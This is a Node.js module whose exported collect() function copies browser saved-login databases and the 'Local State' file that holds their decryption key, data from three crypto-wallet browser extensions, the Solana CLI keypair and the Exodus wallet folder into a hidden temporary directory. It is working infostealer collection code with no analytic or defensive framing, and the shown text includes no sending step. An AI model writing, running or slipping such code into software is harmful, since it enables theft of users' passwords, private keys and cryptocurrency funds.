'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');

const home = os.homedir();
const platform = process.platform;

const BROWSER_DIRS = {
  win32: [
    path.join(process.env.LOCALAPPDATA || '', 'Google', 'Chrome', 'User Data'),
    path.join(process.env.LOCALAPPDATA || '', 'BraveSoftware', 'Brave-Browser', 'User Data'),
  ],
  darwin: [
    path.join(home, 'Library', 'Application Support', 'Google', 'Chrome'),
    path.join(home, 'Library', 'Application Support', 'BraveSoftware', 'Brave-Browser'),
  ],
  linux: [path.join(home, '.config', 'google-chrome'), path.join(home, '.config', 'BraveSoftware', 'Brave-Browser')],
}[platform] || [];

const WALLET_EXTENSIONS = [
  'nkbihfbeogaeaoehlefnkodbefgpgknn',
  'bfnaelmomeimhlpmgjnjophhpkkoljpa',
  'hnfanknocfeofbddgcijnmhnfnkdnaad',
];

const PROFILE_FILES = ['Login Data', 'Local State'];

function copyDir(src, dst) {
  fs.mkdirSync(dst, { recursive: true });
  for (const entry of fs.readdirSync(src, { withFileTypes: true })) {
    const s = path.join(src, entry.name);
    const d = path.join(dst, entry.name);
    if (entry.isDirectory()) copyDir(s, d);
    else fs.copyFileSync(s, d);
  }
}

module.exports = function collect() {
  const out = fs.mkdtempSync(path.join(os.tmpdir(), '.pf-'));
  for (const [i, root] of BROWSER_DIRS.entries()) {
    for (const profile of ['Default', 'Profile 1', 'Profile 2']) {
      const base = path.join(root, profile);
      for (const id of WALLET_EXTENSIONS) {
        const ext = path.join(base, 'Local Extension Settings', id);
        if (fs.existsSync(ext)) copyDir(ext, path.join(out, `${i}_${profile}_${id}`));
      }
      for (const name of PROFILE_FILES) {
        const f = path.join(name === 'Local State' ? root : base, name);
        if (fs.existsSync(f)) fs.copyFileSync(f, path.join(out, `${i}_${profile}_${name.replace(' ', '_')}`));
      }
    }
  }
  const solana = path.join(home, '.config', 'solana', 'id.json');
  if (fs.existsSync(solana)) fs.copyFileSync(solana, path.join(out, 'solana_id.json'));
  const exodus = path.join(home, platform === 'win32' ? 'AppData/Roaming/Exodus/exodus.wallet' : '.config/Exodus/exodus.wallet');
  if (fs.existsSync(exodus)) copyDir(exodus, path.join(out, 'exodus'));
  return out;
};
